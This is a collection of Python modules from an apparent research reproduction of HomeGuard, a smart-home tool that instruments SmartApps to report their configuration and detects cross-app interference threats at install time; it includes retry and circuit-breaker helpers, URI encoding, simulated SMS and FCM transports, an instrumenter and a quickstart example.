backoff with *deterministic* seeded jitter: the same
``(seed, attempt)`` pair always yields the same delay, so retry timing
never introduces nondeterminism into otherwise reproducible runs.
"""

from __future__ import annotations

import hashlib
import threading
import time
from dataclasses import dataclass

__all__ = ["CircuitBreaker", "RetryPolicy"]


class CircuitBreaker:
    """Thread-safe closed/open/half-open circuit breaker.

    Parameters
    ----------
    failure_threshold:
        Consecutive failures (while closed) before the breaker opens.
    cooldown_seconds:
        How long the breaker stays open before allowing a probe call.
    clock:
        Monotonic time source; injectable for tests.
    name:
        Optional label used in ``repr`` and surfaced in status records.
    """

    __slots__ = (
        "name",
        "failure_threshold",
        "cooldown_seconds",
        "_clock",
        "_lock",
        "_state",
        "_failures",
        "_opened_at",
        "times_opened",
    )

    def __init__(
        self,
        failure_threshold: int = 3,
        cooldown_seconds: float = 5.0,
        *,
        clock=time.monotonic,
        name: str = "",
    ) -> None:
        if failure_threshold < 1:
            raise ValueError("failure_threshold must be >= 1")
        if cooldown_seconds < 0:
            raise ValueError("cooldown_seconds must be >= 0")
        self.name = name
        self.failure_threshold = int(failure_threshold)
        self.cooldown_seconds = float(cooldown_seconds)
        self._clock = clock
        self._lock = threading.Lock()
        self._state = "closed"
        self._failures = 0
        self._opened_at = 0.0
        #: Lifetime count of closed->open transitions (including
        #: half-open probes that failed and re-opened the breaker).
        self.times_opened = 0

    # -- state ---------------------------------------------------------

    @property
    def state(self) -> str:
        """Current state ("closed", "open" or "half-open").

        Reading the state performs the open -> half-open transition if
        the cooldown has elapsed, so callers always see the state an
        ``allow()`` call would act on.
        """
        with self._lock:
            self._tick()
            return self._state

    def _tick(self) -> None:
        # Caller holds the lock.
        if self._state == "open":
            if self._clock() - self._opened_at >= self.cooldown_seconds:
                self._state = "half-open"

    # -- protocol ------------------------------------------------------

    def allow(self) -> bool:
        """Return True when a call may proceed.

        While open, returns False until the cooldown elapses; the first
        call after the cooldown is the half-open probe and is allowed.
        """
        with self._lock:
            self._tick()
            return self._state != "open"

    def record_success(self) -> None:
        with self._lock:
            self._failures = 0
            self._state = "closed"

    def record_failure(self) -> None:
        with self._lock:
            self._tick()
            if self._state == "half-open":
                self._open()
                return
            self._failures += 1
            if self._state == "closed" and self._failures >= self.failure_threshold:
                self._open()

    def _open(self) -> None:
        # Caller holds the lock.
        self._state = "open"
        self._failures = 0
        self._opened_at = self._clock()
        self.times_opened += 1

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        label = f" {self.name!r}" if self.name else ""
        return f"<CircuitBreaker{label} state={self.state}>"


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded exponential backoff with deterministic seeded jitter.

    ``attempts`` counts *total* tries including the first one, so
    ``attempts=3`` means "one call plus up to two retries".  The delay
    before retry ``i`` (1-based) is::

        min(max_delay, base_delay * factor ** (i - 1)) * jitter_scale

    where ``jitter_scale`` is drawn deterministically from
    ``sha256(seed, i)`` in ``[1 - jitter, 1 + jitter]``.  Identical
    ``(seed, attempt)`` pairs always produce identical delays.
    """

    attempts: int = 3
    base_delay: float = 0.05
    factor: float = 2.0
    max_delay: float = 2.0
    jitter: float = 0.1
    seed: int = 0

    def __post_init__(self) -> None:
        if self.attempts < 1:
            raise ValueError("attempts must be >= 1")
        if self.base_delay < 0 or self.max_delay < 0:
            raise ValueError("delays must be >= 0")
        if not 0.0 <= self.jitter < 1.0:
            raise ValueError("jitter must be in [0, 1)")

    def delay(self, attempt: int) -> float:
        """Backoff before retry number ``attempt`` (1-based)."""
        if attempt < 1:
            raise ValueError("attempt is 1-based")
        raw = min(self.max_delay, self.base_delay * self.factor ** (attempt - 1))
        if not self.jitter:
            return raw
        digest = hashlib.sha256(f"{self.seed}:{attempt}".encode()).digest()
        fraction = int.from_bytes(digest[:8], "big") / 2**64
        return raw * (1.0 - self.jitter + 2.0 * self.jitter * fraction)

    def delays(self):
        """All backoff delays, in order (``attempts - 1`` of them)."""
        return [self.delay(i) for i in range(1, self.attempts)]

    def run(self, fn, *, retryable=(Exception,), sleep=time.sleep):
        """Call ``fn`` with retries; re-raise the last retryable error."""
        for attempt in range(1, self.attempts + 1):
            try:
                return fn()
            except retryable:
                if attempt >= self.attempts:
                    raise
                sleep(self.delay(attempt))
        raise AssertionError("unreachable")  # pragma: no cover
