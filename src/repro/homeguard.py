"""Top-level HomeGuard facade.

Wires the offline and online parts together (paper §IV-C):

* **offline** — the backend extracts and stores rules for every app in
  the store (:meth:`HomeGuard.preload`),
* **online** — when the user installs an app, the instrumented app
  sends its configuration URI over a transport; the companion app
  decodes it, fetches the rules, detects CAI threats against the
  installed history, and asks for a one-time decision.

Example
-------
>>> from repro import HomeGuard
>>> from repro.corpus import app_by_name
>>> hg = HomeGuard(transport="http")
>>> hg.preload([app_by_name("ComfortTV"), app_by_name("CatchLiveShow")])
>>> review = hg.install(app_by_name("ComfortTV"),
...                     devices={"tv1": "tv", "tSensor": "temperatureSensor",
...                              "window1": "windowOpener"},
...                     values={"threshold1": 30})
>>> review.clean
True
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.capabilities.devices import make_device_id
from repro.config.instrument import Instrumenter
from repro.config.messaging import FcmHttpTransport, SmsTransport, Transport
from repro.config.uri import ConfigPayload, encode_uri
from repro.corpus.model import CorpusApp
from repro.frontend.app import HomeGuardApp, InstallDecision, InstallReview
from repro.rules.extractor import RuleExtractor


@dataclass(frozen=True, slots=True)
class InstalledDevice:
    """A home device as the companion app sees it."""

    device_id: str
    label: str
    type_name: str


class HomeGuard:
    """End-to-end HomeGuard deployment for one home."""

    def __init__(
        self,
        transport: str = "sms",
        seed: int = 11,
        store_path: str | None = None,
        workers: int | str | None = "auto",
    ) -> None:
        self.backend = RuleExtractor()
        self.instrumenter = Instrumenter(transport=transport)
        self.transport: Transport = (
            SmsTransport(seed=seed) if transport == "sms"
            else FcmHttpTransport(seed=seed)
        )
        # With a store path the companion app snapshots detection state
        # on every commit; call :meth:`restore` after constructing a
        # fresh deployment to warm-start from the last snapshot.
        # ``workers`` selects the detection backend (DESIGN.md §9/§10):
        # the default ``"auto"`` stays serial for everyday reviews and
        # fans large audits out to a cpu-sized process pool; explicit
        # counts/specs (``workers=4``, ``"thread:2"``) pin a backend.
        # Threat reports are identical in every mode.
        self.app = HomeGuardApp(
            self.backend, self.transport, store_path=store_path,
            workers=workers,
        )
        self._home_devices: dict[str, InstalledDevice] = {}

    # ------------------------------------------------------------------
    # Offline phase

    def preload(self, apps: list[CorpusApp]) -> None:
        """Extract rules for public-store apps ahead of time."""
        for app in apps:
            self.backend.extract(app.source, app.name)

    # ------------------------------------------------------------------
    # Devices

    def register_device(self, label: str, type_name: str) -> InstalledDevice:
        device = InstalledDevice(
            device_id=make_device_id(f"hg:{label}"),
            label=label,
            type_name=type_name,
        )
        self._home_devices[label] = device
        # Ride along with the companion app's snapshots so labels keep
        # resolving after a warm restart.
        self.app.frontend_state.setdefault("home_devices", {})[label] = {
            "device_id": device.device_id,
            "type": device.type_name,
        }
        return device

    # ------------------------------------------------------------------
    # Online phase

    def install(
        self,
        app: CorpusApp,
        devices: dict[str, str] | None = None,
        values: dict[str, object] | None = None,
        decision: InstallDecision = InstallDecision.KEEP,
    ) -> InstallReview:
        """Install an app end-to-end.

        ``devices`` maps input names to *device type names* (a device of
        that type is registered on first use) or to labels registered via
        :meth:`register_device`; ``values`` are the user-entered inputs.
        The instrumented app's ``updated()`` runs implicitly: we encode
        and send the configuration URI through the transport, the
        companion app reviews it, and ``decision`` is applied.
        """
        if self.backend.rules_of(app.name) is None:
            self.backend.extract(app.source, app.name)
        self.instrumenter.instrument(app.source, app.name)
        bound: dict[str, str] = {}
        types: dict[str, str] = {}
        for input_name, type_or_label in (devices or {}).items():
            if type_or_label in self._home_devices:
                device = self._home_devices[type_or_label]
            else:
                device = self.register_device(
                    f"{type_or_label}-{len(self._home_devices)}", type_or_label
                )
            bound[input_name] = device.device_id
            types[device.device_id] = device.type_name
        payload = ConfigPayload(
            app_name=app.name,
            devices=bound,
            values={k: str(v) for k, v in (values or app.values).items()},
        )
        self.transport.send(encode_uri(payload), target=None)
        reviews = self.app.review_pending(device_types=types)
        review = reviews[-1]
        self.app.decide(review, decision)
        return review

    def installed_apps(self) -> list[str]:
        return self.app.installed_apps()

    @property
    def pipeline(self):
        """The companion app's incremental detection pipeline.  Each
        install solves only index-selected candidate pairs against the
        kept apps; the solve caches persist across installs, so a home
        accumulating apps never re-examines already-installed pairs."""
        return self.app.pipeline

    @property
    def detection_stats(self):
        """Cumulative solver/cache accounting across every review."""
        return self.app.pipeline.stats

    # ------------------------------------------------------------------
    # Persistence (DESIGN.md §8)

    def restore(self) -> list[str]:
        """Warm-start from the configured detection store.

        Reloads recorded configurations, rules, the Allowed list and
        the detection pipeline from the last snapshot; apps whose
        persisted fingerprints still match re-appear with **zero**
        solver calls, while re-bound apps are transparently re-reviewed.
        Returns the restored app names (empty without a usable store).

        Registered home devices are restored too, so their labels keep
        resolving in future :meth:`install` calls.
        """
        restored = self.app.load_store()
        home_devices = self.app.frontend_state.get("home_devices", {})
        if isinstance(home_devices, dict):
            for label, entry in home_devices.items():
                try:
                    self._home_devices[label] = InstalledDevice(
                        device_id=entry["device_id"],
                        label=label,
                        type_name=entry["type"],
                    )
                except (TypeError, KeyError):
                    continue  # malformed entry: that label won't resolve
        return restored

    def save(self) -> None:
        """Force a store snapshot now (commits already save)."""
        self.app.save_store()

    def close(self) -> None:
        """Release detection workers, if ``workers=`` started any."""
        self.app.pipeline.close()

    # ------------------------------------------------------------------
    # Backward compatibility (paper §VIII-D.3)

    def audit_existing(self) -> list[InstallReview]:
        """Re-run detection for apps installed *before* HomeGuard was
        deployed.

        The paper's deployment path is to reinstall the instrumented
        versions without changing their configuration: each app's
        ``updated()`` then re-sends its configuration and detection
        runs.  Here the recorded configuration payloads are replayed in
        installation order; each review covers one app against all the
        others, so the union covers every installed pair.  Each replay
        runs on the incremental pipeline: the audited app's cached state
        is invalidated and only its index-selected candidate pairs are
        re-solved, not the whole installed history.
        """
        reviews: list[InstallReview] = []
        for app_name in self.app.installed_apps():
            payload = self.app.config_recorder.config_of(app_name)
            if payload is None:
                continue
            review = self.app.review_installation(payload)
            # An audit replay carries no keep/delete decision: drop the
            # re-staged signatures (the app stays installed as-is).
            self.app.pipeline.discard(app_name)
            reviews.append(review)
        return reviews
