"""Top-level HomeGuard facade — compatibility shim.

.. deprecated::
    The deployment core moved to :mod:`repro.service`:
    :class:`~repro.service.service.HomeGuardService` serves N tenant
    homes over one shared backend extractor and solver dispatcher,
    speaks typed wire schemas, and handles threats via pluggable
    policies (DESIGN.md §11).  :class:`HomeGuard` remains as a thin
    single-home shim with identical behavior — threats, caches and
    store bytes are bit-for-bit the pre-service flow.

The facade still wires the offline and online parts together (paper
§IV-C): the backend extracts rules ahead of time
(:meth:`HomeGuard.preload`), and installing an app sends its
configuration URI over a real messaging transport to the companion-app
side, which detects CAI threats and applies the one-time decision.

Example
-------
>>> from repro import HomeGuard
>>> from repro.corpus import app_by_name
>>> hg = HomeGuard(transport="http")
>>> hg.preload([app_by_name("ComfortTV"), app_by_name("CatchLiveShow")])
>>> review = hg.install(app_by_name("ComfortTV"),
...                     devices={"tv1": "tv", "tSensor": "temperatureSensor",
...                              "window1": "windowOpener"},
...                     values={"threshold1": 30})
>>> review.clean
True
"""

from __future__ import annotations

import warnings

from repro.config.instrument import Instrumenter
from repro.config.messaging import FcmHttpTransport, SmsTransport, Transport
from repro.config.uri import ConfigPayload, encode_uri
from repro.corpus.model import CorpusApp
from repro.frontend.app import HomeGuardApp, InstallDecision, InstallReview
from repro.rules.extractor import RuleExtractor
from repro.service.home import InstalledDevice
from repro.service.service import HomeGuardService

__all__ = ["HomeGuard", "InstalledDevice"]

_DEFAULT_HOME = "default"


class HomeGuard:
    """End-to-end HomeGuard deployment for one home (compat shim)."""

    def __init__(
        self,
        transport: str = "sms",
        seed: int = 11,
        store_path: str | None = None,
        workers: int | str | None = "auto",
    ) -> None:
        warnings.warn(
            "HomeGuard is a compatibility shim; use "
            "repro.service.HomeGuardService for new code",
            DeprecationWarning,
            stacklevel=2,
        )
        self.backend = RuleExtractor()
        self.instrumenter = Instrumenter(transport=transport)
        self.transport: Transport = (
            SmsTransport(seed=seed) if transport == "sms"
            else FcmHttpTransport(seed=seed)
        )
        # One single-home service: the shared dispatcher semantics
        # (``workers``, DESIGN.md §9/§10) and the save-on-commit store
        # (``store_path``, §8) are unchanged; ``self.app`` stays a live
        # companion-app view over the same home.
        self.service = HomeGuardService(
            extractor=self.backend, workers=workers
        )
        self._home = self.service.create_home(
            _DEFAULT_HOME, store_path=store_path
        )
        self.app = HomeGuardApp._over(
            self.service, self._home, self.transport
        )

    # ------------------------------------------------------------------
    # Offline phase

    def preload(self, apps: list[CorpusApp]) -> None:
        """Extract rules for public-store apps ahead of time."""
        self.service.preload(apps)

    # ------------------------------------------------------------------
    # Devices

    @property
    def _home_devices(self) -> dict[str, InstalledDevice]:
        return self._home.home_devices

    def register_device(self, label: str, type_name: str) -> InstalledDevice:
        return self._home.register_device(label, type_name)

    # ------------------------------------------------------------------
    # Online phase

    def install(
        self,
        app: CorpusApp,
        devices: dict[str, str] | None = None,
        values: dict[str, object] | None = None,
        decision: InstallDecision = InstallDecision.KEEP,
    ) -> InstallReview:
        """Install an app end-to-end.

        ``devices`` maps input names to *device type names* (a device of
        that type is registered on first use) or to labels registered via
        :meth:`register_device`; ``values`` are the user-entered inputs.
        The instrumented app's ``updated()`` runs implicitly: we encode
        and send the configuration URI through the transport, the
        companion app reviews it, and ``decision`` is applied.
        """
        if self.backend.rules_of(app.name) is None:
            self.backend.extract(app.source, app.name)
        self.instrumenter.instrument(app.source, app.name)
        bound, types = self._home.bind_inputs(devices)
        payload = ConfigPayload(
            app_name=app.name,
            devices=bound,
            values={k: str(v) for k, v in (values or app.values).items()},
        )
        self.transport.send(encode_uri(payload), target=None)
        reviews = self.app.review_pending(device_types=types)
        review = reviews[-1]
        self.app.decide(review, decision)
        return review

    def installed_apps(self) -> list[str]:
        return self._home.installed_apps()

    @property
    def pipeline(self):
        """The companion app's incremental detection pipeline.  Each
        install solves only index-selected candidate pairs against the
        kept apps; the solve caches persist across installs, so a home
        accumulating apps never re-examines already-installed pairs."""
        return self._home.pipeline

    @property
    def detection_stats(self):
        """Cumulative solver/cache accounting across every review."""
        return self._home.pipeline.stats

    # ------------------------------------------------------------------
    # Persistence (DESIGN.md §8)

    def restore(self) -> list[str]:
        """Warm-start from the configured detection store.

        Reloads recorded configurations, rules, the Allowed list,
        registered home devices and the detection pipeline from the
        last snapshot; apps whose persisted fingerprints still match
        re-appear with **zero** solver calls, while re-bound apps are
        transparently re-reviewed.  Returns the restored app names
        (empty without a usable store).
        """
        return self._home.load_store()

    def save(self) -> None:
        """Force a store snapshot now (commits already save)."""
        self._home.save_store()

    def close(self) -> None:
        """Release detection workers, if ``workers=`` started any.

        Idempotent, and safe to call after a failed :meth:`restore` —
        the shared dispatcher is owned by the service, so no worker
        pool can be left dangling behind a partially restored home."""
        self.service.close()

    # ------------------------------------------------------------------
    # Backward compatibility (paper §VIII-D.3)

    def audit_existing(self) -> list[InstallReview]:
        """Re-run detection for apps installed *before* HomeGuard was
        deployed.

        The paper's deployment path is to reinstall the instrumented
        versions without changing their configuration: each app's
        ``updated()`` then re-sends its configuration and detection
        runs.  Here the recorded configuration payloads are replayed in
        installation order on the incremental pipeline; see
        :meth:`repro.service.home.TenantHome.audit_existing`.
        """
        return self._home.audit_existing()
