"""Configuration and rule recorders (paper Fig. 6, Threat Detector box).

The recorders keep the historical per-app configuration and rule
information so detection only needs the new app's data at install time.
The :class:`ConfigRecorder` doubles as the deployment-time
:class:`~repro.constraints.builder.DeviceResolver`: device identity is
the collected 128-bit device id and input values come from the
collected configuration — exactly the "device constraints" and
"user-defined value constraints" the paper's HomeGuard app generates.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.config.uri import ConfigPayload
from repro.rules.model import RuleSet
from repro.symex.values import DeviceRef


@dataclass(slots=True)
class ConfigRecorder:
    """Tracks configuration payloads per app; resolves device identity."""

    payloads: dict[str, ConfigPayload] = field(default_factory=dict)
    # Optional device-id -> device-type map (shipped by the companion
    # app, which knows the bound devices' types).
    device_types: dict[str, str] = field(default_factory=dict)

    def record(self, payload: ConfigPayload,
               device_types: dict[str, str] | None = None) -> None:
        self.payloads[payload.app_name] = payload
        if device_types:
            self.device_types.update(device_types)

    def forget(self, app_name: str) -> None:
        self.payloads.pop(app_name, None)

    def config_of(self, app_name: str) -> ConfigPayload | None:
        return self.payloads.get(app_name)

    # --- DeviceResolver protocol --------------------------------------

    def identity(self, app_name: str, ref: DeviceRef) -> tuple[str, str | None]:
        payload = self.payloads.get(app_name)
        if payload is not None and ref.name in payload.devices:
            device_id = payload.devices[ref.name]
            return f"dev:{device_id}", self.device_types.get(device_id)
        # Unconfigured input: fall back to a per-app-unique identity so
        # it never aliases another app's device.
        return f"unbound:{app_name}:{ref.name}", None

    def input_value(self, app_name: str, input_name: str) -> object | None:
        payload = self.payloads.get(app_name)
        if payload is None:
            return None
        return payload.typed_values().get(input_name)


@dataclass(slots=True)
class RuleRecorder:
    """Tracks extracted rule sets per app (requested from the backend
    rule extractor when a config payload arrives)."""

    rulesets: dict[str, RuleSet] = field(default_factory=dict)

    def record(self, ruleset: RuleSet) -> None:
        self.rulesets[ruleset.app_name] = ruleset

    def forget(self, app_name: str) -> None:
        self.rulesets.pop(app_name, None)

    def rules_of(self, app_name: str) -> RuleSet | None:
        return self.rulesets.get(app_name)

    def installed_rulesets(self, exclude: str | None = None) -> list[RuleSet]:
        return [
            ruleset
            for name, ruleset in self.rulesets.items()
            if name != exclude
        ]
