"""URI encoding of configuration information (paper Listing 3 / Fig. 7a).

The instrumented ``collectConfigInfo`` method assembles a URI of the
form::

    http://my.com/appname:ComfortTV/tv1:0e0b...741b/tSensor:8d12...77aa/
        window1:55c1...09cf/threshold1:30/

holding the app name, each device input's 128-bit device id, and each
user-defined value.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from urllib.parse import quote, unquote

_BASE = "http://my.com/"


@dataclass(slots=True)
class ConfigPayload:
    """Decoded configuration information for one app installation."""

    app_name: str
    devices: dict[str, str] = field(default_factory=dict)   # input -> device id
    values: dict[str, str] = field(default_factory=dict)    # input -> value

    def typed_values(self) -> dict[str, object]:
        """Values with numeric strings converted back to numbers."""
        out: dict[str, object] = {}
        for name, text in self.values.items():
            try:
                out[name] = int(text)
            except ValueError:
                try:
                    out[name] = float(text)
                except ValueError:
                    out[name] = text
        return out


def encode_uri(payload: ConfigPayload) -> str:
    """Assemble the configuration URI (Listing 3's ``collectConfigInfo``)."""
    parts = [f"appname:{quote(payload.app_name, safe='')}"]
    for input_name, device_id in payload.devices.items():
        parts.append(f"{quote(input_name, safe='')}:{quote(device_id, safe='')}")
    for input_name, value in payload.values.items():
        parts.append(f"{quote(input_name, safe='')}:{quote(str(value), safe='')}")
    return _BASE + "/".join(parts) + "/"


def decode_uri(uri: str) -> ConfigPayload:
    """Parse a configuration URI back into a payload.

    Device ids are recognised by shape (UUID-like, 32 hex digits);
    everything else is a user value.
    """
    if not uri.startswith(_BASE):
        raise ValueError(f"not a HomeGuard config URI: {uri!r}")
    body = uri[len(_BASE):].strip("/")
    segments = [segment for segment in body.split("/") if segment]
    app_name: str | None = None
    devices: dict[str, str] = {}
    values: dict[str, str] = {}
    for segment in segments:
        if ":" not in segment:
            raise ValueError(f"malformed URI segment: {segment!r}")
        key, _, raw = segment.partition(":")
        key = unquote(key)
        value = unquote(raw)
        if key == "appname":
            app_name = value
        elif _looks_like_device_id(value):
            devices[key] = value
        else:
            values[key] = value
    if app_name is None:
        raise ValueError("config URI is missing the appname segment")
    return ConfigPayload(app_name=app_name, devices=devices, values=values)


def _looks_like_device_id(value: str) -> bool:
    hex_digits = value.replace("-", "")
    if len(hex_digits) != 32:
        return False
    try:
        int(hex_digits, 16)
    except ValueError:
        return False
    return True
