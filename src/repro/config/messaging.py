"""Messaging transports for configuration URIs (paper §VII-B).

Both deployment options are modeled:

* **SMS** — easy to deploy, higher latency, may fail abroad;
* **HTTP via Firebase Cloud Messaging** — needs a relay (registration
  token) but is roughly 3x faster.

Latency models are calibrated to the paper's measurements (3120 ms mean
for SMS, 1058 ms for HTTP over 100 trials) with a deterministic seeded
jitter so benchmarks are reproducible.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable

# Paper §VIII-C measurements.
CLOUD_PROCESSING_MS = 27.0
SMS_MEAN_MS = 3120.0
HTTP_MEAN_MS = 1058.0


@dataclass(frozen=True, slots=True)
class MessageRecord:
    """One delivered configuration message."""

    uri: str
    target: str
    transport: str
    sent_at_ms: float
    delivered_at_ms: float

    @property
    def latency_ms(self) -> float:
        return self.delivered_at_ms - self.sent_at_ms


class Transport:
    """Base transport: queues deliveries to a receiver callback."""

    name = "abstract"
    mean_latency_ms = 0.0
    jitter_fraction = 0.15

    def __init__(self, seed: int = 11) -> None:
        self._rng = random.Random(seed)
        self._receiver: Callable[[MessageRecord], None] | None = None
        self.log: list[MessageRecord] = []
        self._now_ms = 0.0

    def connect(self, receiver: Callable[[MessageRecord], None]) -> None:
        self._receiver = receiver

    def send(self, uri: str, target: str) -> MessageRecord:
        """Send a configuration URI; returns the delivery record."""
        sent = self._now_ms + CLOUD_PROCESSING_MS
        latency = self.sample_latency_ms()
        record = MessageRecord(
            uri=uri,
            target=target,
            transport=self.name,
            sent_at_ms=sent,
            delivered_at_ms=sent + latency,
        )
        self.log.append(record)
        self._now_ms = record.delivered_at_ms
        if self._receiver is not None:
            self._receiver(record)
        return record

    def sample_latency_ms(self) -> float:
        jitter = self._rng.gauss(0.0, self.mean_latency_ms * self.jitter_fraction)
        return max(50.0, self.mean_latency_ms + jitter)


class SmsTransport(Transport):
    """``sendSmsMessage`` to the HomeGuard phone."""

    name = "sms"
    mean_latency_ms = SMS_MEAN_MS

    def __init__(self, phone_number: str = "+15550100", seed: int = 11) -> None:
        super().__init__(seed=seed)
        self.phone_number = phone_number
        self.roaming = False  # SMS may fail when the user goes abroad

    def send(self, uri: str, target: str | None = None) -> MessageRecord:
        if self.roaming:
            raise ConnectionError("SMS delivery failed: phone is roaming abroad")
        return super().send(uri, target or self.phone_number)


class FcmHttpTransport(Transport):
    """``httpPost`` to Firebase Cloud Messaging, pushed to the app."""

    name = "http"
    mean_latency_ms = HTTP_MEAN_MS

    def __init__(self, registration_token: str | None = None, seed: int = 11) -> None:
        super().__init__(seed=seed)
        self.registration_token = registration_token or self._new_token()

    def _new_token(self) -> str:
        return "fcm-" + "".join(
            self._rng.choice("abcdef0123456789") for _ in range(22)
        )

    def send(self, uri: str, target: str | None = None) -> MessageRecord:
        return super().send(uri, target or self.registration_token)
