"""SmartApp code instrumentation (paper §VII-A, Listing 3).

The instrumenter rewrites an app's source so that its ``updated()``
lifecycle method collects the configuration information (app name,
device bindings, user values) and transmits it to the HomeGuard app.
It reuses the rule extractor's input identification, so the process is
completely automatic, and it only runs at installation/update time —
the runtime overhead the paper reports is negligible (27 ms cloud-side).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.lang import ast_nodes as ast
from repro.lang.parser import parse
from repro.symex.values import DeviceRef, UserInput
from repro.symex.engine import SymbolicExecutor


@dataclass(slots=True)
class InstrumentedApp:
    """Result of instrumenting one app."""

    app_name: str
    source: str
    device_inputs: list[str]
    value_inputs: list[str]


class Instrumenter:
    """Produces instrumented SmartApp sources.

    The inserted lines follow Listing 3: a ``patchedphone`` input for the
    HomeGuard phone, per-app ``devices``/``values`` tables inside
    ``updated()``, and the generic ``collectConfigInfo`` method that
    assembles the URI and sends it via SMS (or HTTP when ``transport`` is
    ``"http"``, in which case the input collects an FCM token instead).
    """

    def __init__(self, transport: str = "sms") -> None:
        if transport not in ("sms", "http"):
            raise ValueError(f"unknown transport {transport!r}")
        self._transport = transport

    def instrument(self, source: str, app_name: str | None = None) -> InstrumentedApp:
        module = parse(source)
        executor = SymbolicExecutor(module, app_name=app_name or "")
        ruleset = executor.run()
        name = ruleset.app_name
        device_inputs = sorted(
            input_name
            for input_name, ref in ruleset.inputs.items()
            if isinstance(ref, DeviceRef)
        )
        value_inputs = sorted(
            input_name
            for input_name, ref in ruleset.inputs.items()
            if isinstance(ref, UserInput)
        )
        new_source = self._rewrite(source, module, name, device_inputs, value_inputs)
        return InstrumentedApp(
            app_name=name,
            source=new_source,
            device_inputs=device_inputs,
            value_inputs=value_inputs,
        )

    # ------------------------------------------------------------------

    def _rewrite(
        self,
        source: str,
        module: ast.Module,
        app_name: str,
        device_inputs: list[str],
        value_inputs: list[str],
    ) -> str:
        lines = source.splitlines()
        target_input = (
            'input "patchedphone", "phone", required: true, title: "Phone number?"'
            if self._transport == "sms"
            else 'input "patchedtoken", "text", required: true, title: "FCM token?"'
        )
        devices_table = ", ".join(
            f'[devRefStr:"{name}", devRef:{name}]' for name in device_inputs
        )
        values_table = ", ".join(
            f'[varStr:"{name}", var:{name}]' for name in value_inputs
        )
        collect_lines = [
            f'    def appname = "{app_name}"',
            f"    def devices = [{devices_table}]",
            f"    def values = [{values_table}]",
            "    collectConfigInfo(appname, devices, values)",
        ]
        updated = module.method("updated")
        if updated is not None:
            # Insert before the closing brace of updated()'s body.
            insert_at = self._method_close_line(lines, updated)
            lines[insert_at:insert_at] = collect_lines
        else:
            lines.append("def updated() {")
            lines.extend(collect_lines)
            lines.append("}")
        lines.append("")
        lines.append("// Inserted by HomeGuard (configuration collection)")
        lines.append(target_input)
        lines.extend(self._collect_method().splitlines())
        return "\n".join(lines) + "\n"

    @staticmethod
    def _method_close_line(lines: list[str], method: ast.MethodDecl) -> int:
        """Line index of the method's closing brace (0-based).

        Tracks brace depth from the declaration line; works for the
        single-line ``def updated() { ... }`` style as well by inserting
        a rewritten body.
        """
        start = method.location.line - 1
        depth = 0
        for index in range(start, len(lines)):
            depth += lines[index].count("{") - lines[index].count("}")
            if depth == 0 and index > start:
                return index
            if depth == 0 and "{" in lines[index] and "}" in lines[index]:
                # Single-line method: split the closing brace onto its own
                # line so the table insert has somewhere to go.
                body_close = lines[index].rindex("}")
                lines[index:index + 1] = [
                    lines[index][:body_close],
                    "}",
                ]
                return index + 1
        return len(lines)

    def _collect_method(self) -> str:
        send = (
            "sendSmsMessage(patchedphone, uri)"
            if self._transport == "sms"
            else 'httpPost("https://fcm.googleapis.com/send", uri)'
        )
        return f'''
def collectConfigInfo(appname, devices, values) {{
    def uri = "http://my.com/appname:${{appname}}/"
    devices.each {{ dev ->
        uri = uri + dev.devRefStr + ":" + dev.devRef.getId() + "/"
    }}
    values.each {{ val ->
        uri = uri + val.varStr + ":" + val.var + "/"
    }}
    {send}
}}'''


def instrument_app(source: str, app_name: str | None = None,
                   transport: str = "sms") -> InstrumentedApp:
    """One-shot instrumentation convenience wrapper."""
    return Instrumenter(transport=transport).instrument(source, app_name)
