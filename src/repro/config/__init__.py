"""Configuration information collection (paper §VII).

Device bindings and user-entered values cannot be obtained by static
analysis and SmartThings exposes no API for them, so HomeGuard
instruments each SmartApp to collect its own configuration inside
``updated()`` and ships it to the companion app as a URI over SMS or
HTTP/FCM messaging.  This package reproduces the whole pipeline:
instrumentation, URI encoding, the two transports (with calibrated
latency models) and the recorders that track per-app history.
"""

from repro.config.instrument import Instrumenter, instrument_app
from repro.config.uri import ConfigPayload, decode_uri, encode_uri
from repro.config.messaging import (
    FcmHttpTransport,
    MessageRecord,
    SmsTransport,
    Transport,
)
from repro.config.recorder import ConfigRecorder, RuleRecorder

__all__ = [
    "ConfigPayload",
    "ConfigRecorder",
    "FcmHttpTransport",
    "Instrumenter",
    "MessageRecord",
    "RuleRecorder",
    "SmsTransport",
    "Transport",
    "decode_uri",
    "encode_uri",
    "instrument_app",
]
