"""Quickstart: extract rules from a SmartApp and detect CAI threats.

Run with::

    python examples/quickstart.py
"""

from repro import HomeGuard
from repro.corpus import app_by_name
from repro.detector.types import ThreatType
from repro.frontend import render_review
from repro.rules import extract_rules


def main() -> None:
    # ------------------------------------------------------------------
    # 1. Rule extraction: symbolic execution over SmartApp source.
    print("## 1. Rule extraction (paper Table II)\n")
    ruleset = extract_rules(app_by_name("ComfortTV").source, "ComfortTV")
    for rule in ruleset:
        print(f"  trigger  : {rule.trigger.subject}.{rule.trigger.attribute}"
              f"  constraint={rule.trigger.constraint}")
        print(f"  condition: {[str(p) for p in rule.condition.predicate_constraints]}")
        print(f"  action   : {rule.action.subject} -> {rule.action.command}"
              f" (when={rule.action.when}, period={rule.action.period})")

    # ------------------------------------------------------------------
    # 2. Table I: the seven CAI threat categories.
    print("\n## 2. CAI threat categories (paper Table I)\n")
    for threat_type in ThreatType:
        if threat_type is ThreatType.CHAINED:
            continue
        print(f"  {threat_type.value:<3} {threat_type.category:<22} "
              f"{threat_type.pattern}")

    # ------------------------------------------------------------------
    # 3. End-to-end installation flow with detection.
    print("\n## 3. Installing apps with HomeGuard\n")
    hg = HomeGuard(transport="http")
    hg.register_device("Living-room TV", "tv")
    hg.register_device("Hall sensor", "temperatureSensor")
    hg.register_device("Back window", "windowOpener")

    review1 = hg.install(
        app_by_name("ComfortTV"),
        devices={"tv1": "Living-room TV", "tSensor": "Hall sensor",
                 "window1": "Back window"},
        values={"threshold1": 30},
    )
    print(f"ComfortTV installs clean: {review1.clean}")

    review2 = hg.install(
        app_by_name("ColdDefender"),
        devices={"tv2": "Living-room TV", "window2": "Back window"},
        values={"weather": "rainy"},
    )
    print(f"ColdDefender threats: {[t.type.value for t in review2.threats]}\n")
    print(render_review(review2))


if __name__ == "__main__":
    main()
